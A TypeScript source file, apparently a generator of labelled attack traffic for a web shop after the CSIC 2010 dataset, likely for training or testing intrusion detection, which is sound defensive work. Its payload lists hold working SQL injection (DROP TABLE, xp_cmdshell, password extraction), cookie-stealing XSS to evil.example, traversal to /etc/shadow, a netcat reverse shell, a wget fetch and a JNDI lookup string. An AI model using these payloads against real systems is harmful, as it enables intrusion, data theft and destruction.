import type { ShopRequest } from "./http-shop.ts";
import type { RandomSource } from "./random-source.ts";

type Change = (request: ShopRequest, random: RandomSource) => boolean;

/** Families of attacks on a shop and how often they come, after CSIC 2010. Each changes one normal request and says what it has changed. */
export const ATTACKS: Readonly<Record<string, { weight: number; change: Change }>> = {
  "sql injection": { weight: 14, change: inject(makeSql) },
  "cross-site scripting": { weight: 12, change: inject(makeScript) },
  "path traversal": { weight: 7, change: inject(makeTraversal) },
  "command injection": { weight: 6, change: inject(makeCommand) },
  "header splitting": { weight: 8, change: inject(makeSplitting) },
  "server-side include": { weight: 5, change: inject(makeInclude) },
  "buffer overflow": { weight: 6, change: inject(makeOverflow) },
  "forced browsing": { weight: 14, change: browse },
  "parameter tampering": { weight: 12, change: tamper },
  "missing parameter": { weight: 5, change: dropParameter },
  "extra parameter": { weight: 4, change: addParameter },
  "parameter with a typo": { weight: 7, change: misspell },
};

/** Changes a normal request into an attack of a family drawn by weight, or of the one named. */
export function attack(make: () => ShopRequest, random: RandomSource, family?: string): ShopRequest {
  for (;;) {
    const name = family ?? drawFamily(random);
    const request = make();
    const copy: ShopRequest = { ...request, pairs: request.pairs.map(([key, value]) => [key, value]) };
    if (ATTACKS[name]!.change(copy, random)) return { ...copy, family: name };
  }
}

function drawFamily(random: RandomSource): string {
  const entries = Object.entries(ATTACKS);
  let left = random.next() * entries.reduce((sum, [, { weight }]) => sum + weight, 0);
  for (const [name, { weight }] of entries) if ((left -= weight) < 0) return name;
  return entries[0]![0];
}

function inject(make: (random: RandomSource) => string): Change {
  return (request, random) => {
    if (request.pairs.length === 0) return false;
    const pair = random.pick(request.pairs);
    const payload = make(random);
    pair[1] = random.chance(0.7) ? pair[1] + payload : payload;
    request.changed = pair[0];
    return true;
  };
}

function makeSql(random: RandomSource): string {
  const table = random.pick(["users", "usuarios", "accounts", "information_schema.tables", "dual"]);
  const number = random.whole(1, 99);
  const payload = random.pick([
    `' OR '${number}'='${number}`,
    `" or ${number}=${number}`,
    `'; DROP TABLE ${table}; --`,
    `' UNION SELECT ${random.pick(["NULL,NULL", "1,2,3", "login,password"])} FROM ${table}--`,
    ` AND ${number}=${number + random.whole(0, 1)}`,
    `') OR ('x'='x`,
    `';exec master..xp_cmdshell 'ping 10.0.0.${number}'--`,
    `'/**/UNION/**/SELECT/**/password/**/FROM/**/${table}#`,
    `' AND SLEEP(${number})='`,
    ` or benchmark(10000000,MD5(1))#`,
    `'||(SELECT password FROM ${table} LIMIT 1)||'`,
    `1 order by ${number}`,
    `'`,
    `';update ${table} set role='admin' where id=${number};`,
  ]);
  return random.chance(0.2) ? payload.toLowerCase() : payload;
}

function makeScript(random: RandomSource): string {
  const call = random.pick([
    "alert(1)",
    "alert('XSS')",
    "document.location='//evil.example/'+document.cookie",
    "eval(name)",
    "prompt(9)",
  ]);
  return random.pick([
    `<script>${call}</script>`,
    `"><script>${call}</script>`,
    `<SCRipt>${call}</scrIPT>`,
    `<img src=x onerror=${call}>`,
    `' onmouseover='${call}`,
    `javascript:${call}`,
    `<svg/onload=${call}>`,
    `<iframe src="javascript:${call}">`,
    `<body onload=${call}>`,
    `%3Cscript%3E${call}%3C/script%3E`,
    `\\u003cscript\\u003e${call}`,
  ]);
}

function makeTraversal(random: RandomSource): string {
  const up = random.pick(["../", "..\\", "....//", "%2e%2e/", "..%2f", "/.."]).repeat(random.whole(1, 8));
  const file = random.pick([
    "etc/passwd",
    "windows/win.ini",
    "WEB-INF/web.xml",
    "etc/shadow",
    "boot.ini",
    "proc/self/environ",
    ".htpasswd",
  ]);
  return random.pick([up + file, `/${file}`, `${up + file}\0`, `file:///${file}`, `php://filter/resource=${file}`]);
}

function makeCommand(random: RandomSource): string {
  const command = random.pick([
    "id",
    "cat /etc/passwd",
    "ls -la",
    "wget evil.example/x",
    "nc -e /bin/sh 10.0.0.9 4444",
    "ping -c 3 10.0.0.9",
    "whoami",
  ]);
  return random.pick([
    `; ${command}`,
    `| ${command}`,
    `&& ${command}`,
    `\`${command}\``,
    `$(${command})`,
    `%0a${command}`,
    `;${command};`,
    `|| ${command} #`,
  ]);
}

function makeSplitting(random: RandomSource): string {
  const header = random.pick([
    "Set-Cookie: tampered=1",
    "Location: http://evil.example",
    "Content-Length: 0",
    "X-Injected: yes",
  ]);
  return random.pick([
    `\r\n${header}`,
    `\n${header}`,
    `any?\r\n${header}: x`,
    `%0d%0a${header}`,
    `\r\n\r\n<html>${random.whole(1, 99)}</html>`,
  ]);
}

function makeInclude(random: RandomSource): string {
  return random.pick([
    `<!--#exec cmd="${random.pick(["/bin/ls", "id", "cat /etc/passwd"])}" -->`,
    `<!--#include file="${random.pick(["/etc/passwd", "bob.cgi"])}"-->`,
    `<!--#echo var="${random.pick(["DATE_LOCAL", "DOCUMENT_NAME"])}" -->`,
    `${"${"}${random.pick(["7*7", "jndi:ldap://evil.example/a", "env.PATH"])}}`,
    `{{${random.whole(2, 9)}*${random.whole(2, 9)}}}`,
  ]);
}

function makeOverflow(random: RandomSource): string {
  const length = random.whole(80, 2000);
  if (random.chance(0.6)) return random.pick(["A", "x", "9", "%s", "%n", "\u0090"]).repeat(length).slice(0, length);
  return random.text(length, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
}

function browse(request: ShopRequest, random: RandomSource): boolean {
  const { path } = request;
  const folder = path.slice(0, path.lastIndexOf("/") + 1);
  request.path = random.pick([
    `${path}.bak`,
    `${path}.old`,
    `${path}~`,
    `${path}.inc`,
    `${path}.BAK`,
    `${folder}.${path.slice(folder.length)}.swp`,
    `${folder}admin/`,
    `${folder}admin.php`,
    "/.git/config",
    "/.env",
    `${folder}backup.zip`,
    "/phpmyadmin/index.php",
    "/wp-login.php",
    `${folder}${random.text(random.whole(4, 9), "abcdefghijklmnopqrstuvwxyz")}.${random.pick(["asp", "cgi", "txt", "html"])}`,
    `${folder}WEB-INF/web.xml`,
    "/server-status",
    "/actuator/env",
    `${path}/`,
    `${path}${random.whole(2, 9)}`,
    "/cgi-bin/test.cgi",
  ]);
  request.changed = "path";
  return request.path !== path;
}

/** A value of the right alphabet and the wrong kind, size or content. */
function tamper(request: ShopRequest, random: RandomSource): boolean {
  const kinds = new Map(request.page.parameters.map(({ name, kind }) => [name, kind]));
  const pair = random.pick(request.pairs.filter(([name]) => kinds.get(name) !== "text"));
  if (pair === undefined) return false;
  const [name, value] = pair;
  if (kinds.get(name) === "number")
    pair[1] = random.pick([
      `-${value}`,
      `${value}000`,
      random.text(random.whole(3, 7), "abcdefghijklmn"),
      "NaN",
      "99999999999999999999",
      `0x${value}`,
      `${value}e9`,
      "",
      `${value.slice(0, 2)}${random.text(1, "xyzABC")}${value.slice(2)}`,
    ]);
  else if (kinds.get(name) === "choice")
    pair[1] = random.pick([
      `${value}${random.text(1, "aeiou-_x")}`,
      "admin",
      value.slice(1),
      random.text(5, "abcdefghijklmnopqrstu"),
      "null",
      "",
      `${value} ${value}`,
      String(random.whole(100, 999)),
    ]);
  else
    pair[1] = random.pick([
      "admin",
      "../x",
      "",
      `${value}-1`,
      `${value},${value}`,
      "*",
      `-${random.whole(1, 9)}`,
      "undefined",
    ]);
  request.changed = name;
  return pair[1] !== value;
}

function dropParameter(request: ShopRequest, random: RandomSource): boolean {
  const always = request.page.parameters.filter(({ share }) => share === 1).map(({ name }) => name);
  if (always.length === 0) return false;
  const gone = random.pick(always);
  request.pairs = request.pairs.filter(([name]) => name !== gone);
  request.changed = gone;
  return true;
}

function addParameter(request: ShopRequest, random: RandomSource): boolean {
  const name = random.pick([
    "admin",
    "debug",
    "role",
    "is_admin",
    "test",
    "cmd",
    "callback",
    "_method",
    "price_override",
    "exec",
    "__proto__",
    "utm",
  ]);
  if (request.pairs.some(([known]) => known === name)) return false;
  request.pairs.splice(random.whole(0, request.pairs.length), 0, [
    name,
    random.pick(["1", "true", "admin", "PUT", "x", "0.01"]),
  ]);
  request.changed = name;
  return true;
}

function misspell(request: ShopRequest, random: RandomSource): boolean {
  const pair = random.pick(request.pairs);
  if (pair === undefined) return false;
  const [name] = pair;
  const at = random.whole(0, name.length - 1);
  pair[0] = random.pick([
    `${name}A`,
    name.slice(0, at) + name.slice(at + 1) || "x",
    name.slice(0, at) + random.text(1, "aeixyz") + name.slice(at),
    name.toUpperCase(),
  ]);
  request.changed = pair[0];
  request.formerly = name;
  return pair[0] !== name && !request.pairs.some((other) => other !== pair && other[0] === pair[0]);
}
